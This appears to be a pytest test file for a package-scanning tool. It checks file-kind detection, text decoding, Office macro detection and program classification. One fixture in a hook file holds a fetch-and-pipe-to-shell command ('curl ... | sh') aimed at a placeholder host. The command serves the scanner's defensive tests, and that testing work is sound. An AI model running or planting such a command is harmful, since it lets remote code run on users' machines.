"""A file is what its content says, not what its name says."""

from __future__ import annotations

import pytest

from packtool.scan.kinds import FileKind, holds_macros, is_program, kind_of
from packtool.scan.texts import read_text


@pytest.mark.parametrize(
    ("path", "content", "kind"),
    [
        ("a.py", b"import os\n", FileKind.PYTHON),
        ("a.PY", b"import os\n", FileKind.PYTHON),
        ("run", b"#!/usr/bin/env python3\nprint(1)\n", FileKind.PYTHON),
        ("run", b"#!/usr/bin/env -S uv run --script\nprint(1)\n", FileKind.PYTHON),
        ("run", b"import os\nos.getcwd()\n", FileKind.PYTHON),
        ("tool.txt", b"#!/bin/bash\nls\n", FileKind.SHELL),
        ("hooks/pre", b"# begin\ncurl -s https://a.invalid/i | sh\n", FileKind.SHELL),
        ("hooks/pre", b"set -eu\nls\n", FileKind.SHELL),
        ("INSTALL", b"cd plugin\nthen ask somebody\n", FileKind.TEXT),
        ("notes", b"curl is a program\n\nset in stone\n", FileKind.TEXT),
        ("Makefile", b"cd x\n", FileKind.TEXT),
        ("x", b"#!/usr/bin/node\n1\n", FileKind.JAVASCRIPT),
        ("a.mjs", b"export default 1\n", FileKind.JAVASCRIPT),
        ("a.cts", b"export {}\n", FileKind.TYPESCRIPT),
        ("a.ps1", b"Get-Item\n", FileKind.POWERSHELL),
        ("a.md", b"# hi\n", FileKind.MARKDOWN),
        ("a.png", b"import os\n", FileKind.PYTHON),
        ("a.py", b"\x7fELF\x02\x01", FileKind.NATIVE),
        ("a.txt", b"PK\x03\x04\x14\x00", FileKind.ARCHIVE),
        ("a.docx", b"PK\x03\x04\x14\x00", FileKind.OFFICE),
        ("a.txt", b"\xa7\r\r\n" + b"\0" * 20, FileKind.BYTECODE),
        ("a.dat", b"\x00\x01\x02" * 50, FileKind.BINARY),
        ("a.txt", b"MZ is how this text begins\n", FileKind.TEXT),
        ("a.py", b"import os\n\0os.system('x')\n", FileKind.PYTHON),
        ("a.txt", "\ufeffhello".encode("utf-16-le"), FileKind.TEXT),
        ("", b"", FileKind.TEXT),
    ],
)
def test_kind(path: str, content: bytes, kind: FileKind) -> None:
    assert kind_of(path, content) is kind


@pytest.mark.parametrize(
    ("content", "kind", "text", "odd"),
    [
        (b"a\r\nb\rc", FileKind.TEXT, "a\nb\nc", False),
        ("\ufeffx = 1".encode(), FileKind.PYTHON, "x = 1", False),
        (b"# coding: utf-7\n+AGEAYg-", FileKind.PYTHON, "# coding: utf-7\nab", True),
        (b"# coding: latin-1\n'\xe9'", FileKind.PYTHON, "# coding: latin-1\n'é'", True),
        (b"x = '\xe9'", FileKind.PYTHON, "x = 'é'", True),
        ("\ufeffhé".encode("utf-16-be"), FileKind.MARKDOWN, "hé", True),
        (b"caf\xe9", FileKind.MARKDOWN, "café", True),
        ("你好".encode(), FileKind.MARKDOWN, "你好", False),
    ],
)
def test_text(content: bytes, kind: FileKind, text: str, odd: bool) -> None:  # noqa: FBT001 - a table's column
    read = read_text(content, kind)
    assert read.text == text
    assert (read.odd is not None) is odd


@pytest.mark.parametrize(
    ("content", "macros"),
    [
        (b"PK\x03\x04....word/vbaProject.bin....", True),
        (b"PK\x03\x04....xl/macrosheets/sheet1.xml....", True),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le") + b"\0\0", True),
        (b"PK\x03\x04....Basic/Standard/Module1.xml....", True),
        (b"PK\x03\x04....word/document.xml....", False),
        (b"", False),
    ],
)
def test_macros_are_known_by_the_names_of_their_parts(content: bytes, *, macros: bool) -> None:
    assert holds_macros(content) is macros


@pytest.mark.parametrize(
    ("path", "kind", "program"),
    [
        ("a.go", FileKind.TEXT, True),
        ("scripts/a.PHP", FileKind.TEXT, True),
        ("a.sh", FileKind.SHELL, True),
        ("notes.txt", FileKind.TEXT, False),
        ("go", FileKind.TEXT, False),
        ("a.go", FileKind.MARKDOWN, False),
        ("a.rb", None, False),
    ],
)
def test_programs_in_languages_without_a_parser_are_programs(
    path: str, kind: FileKind | None, *, program: bool
) -> None:
    assert is_program(path, kind) is program
